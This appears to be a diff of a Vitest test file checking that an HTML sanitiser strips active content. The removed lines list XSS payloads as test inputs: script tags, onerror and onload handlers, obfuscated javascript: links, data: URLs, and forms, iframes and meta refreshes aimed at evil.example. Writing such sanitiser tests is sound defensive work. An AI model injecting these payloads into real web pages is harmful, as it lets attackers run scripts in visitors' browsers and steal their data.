@@ -1,9 +1,10 @@
 import { parse } from 'node-html-parser';
 import { describe, expect, it } from 'vitest';
 import { sanitiseHtml } from '#shared/contract/sanitise-html.server.ts';
+import { markupVectors } from '#tests/support/script-vectors.ts';
 
 const ACTING = 'script, svg, math, iframe, object, embed, form, input, style, base, meta, link, noscript';
-const PERMITTED_ATTRIBUTES = ['href', 'src', 'title', 'open'];
+const PERMITTED_ATTRIBUTES = 'href src title open alt start datetime loading target rel'.split(' ');
 
 describe('HTML from the content service', () => {
   it.each([
@@ -20,44 +21,21 @@ describe('HTML from the content service', () => {
     expect(sanitiseHtml(safe)).toBe(safe);
   });
 
-  it.each([
-    '<script>alert(1)</script>',
-    '<ScRiPt src="https://evil.example/x.js"></sCrIpT>',
-    '<img src="x" onerror="alert(1)">',
-    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
-    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href="JaVaScRiPt:alert(1)">x</a>',
-    '<a href="java\tscript:alert(1)">x</a>',
-    '<a href="&#106;avascript:alert(1)">x</a>',
-    '<a href=" javascript:alert(1)">x</a>',
-    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-    '<a href="vbscript:alert(1)">x</a>',
-    '<iframe src="https://evil.example"></iframe>',
-    '<object data="x"></object><embed src="x">',
-    '<form action="https://evil.example"><input name="password"></form>',
-    '<style>body{background:url(https://evil.example)}</style>',
-    '<p style="background:url(https://evil.example)">x</p>',
-    '<h2 class="site-header" id="main-content">x</h2>',
-    '<base href="https://evil.example/">',
-    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-    '<link rel="stylesheet" href="https://evil.example/x.css">',
-    '<!--<img src="--><img src=x onerror=alert(1)>">',
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    '<details ontoggle="alert(1)" open>x</details>',
-    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
-  ])('cannot run anything: %s', (html) => {
-    const document = parse(sanitiseHtml(html), { comment: true });
-    expect(document.querySelectorAll(ACTING)).toEqual([]);
-    for (const { attributes } of document.querySelectorAll('*')) {
-      const names = Object.keys(attributes);
-      expect(names.filter((name) => !PERMITTED_ATTRIBUTES.includes(name))).toEqual([]);
-      expect(attributes.id).not.toBe('main-content');
-      for (const address of [attributes.href, attributes.src])
-        expect(address ?? '/').toMatch(/^(?:\/|https?:|[\w.]+$)/);
-    }
-    expect(document.toString()).not.toContain('<!--');
-  });
+  it.each([...markupVectors, '<h2 class="site-header" id="main-content">x</h2>'])(
+    'cannot run anything: %s',
+    (html) => {
+      const document = parse(sanitiseHtml(html), { comment: true });
+      expect(document.querySelectorAll(ACTING)).toEqual([]);
+      for (const { attributes } of document.querySelectorAll('*')) {
+        const names = Object.keys(attributes);
+        expect(names.filter((name) => !PERMITTED_ATTRIBUTES.includes(name))).toEqual([]);
+        expect(attributes.id).not.toBe('main-content');
+        for (const address of [attributes.href, attributes.src])
+          expect(new URL(address ?? '/', 'https://site.example').protocol).toMatch(/^https?:$/);
+      }
+      expect(document.toString()).not.toContain('<!--');
+    },
+  );
 
   it("keeps editors' markup", () => {
     const html =
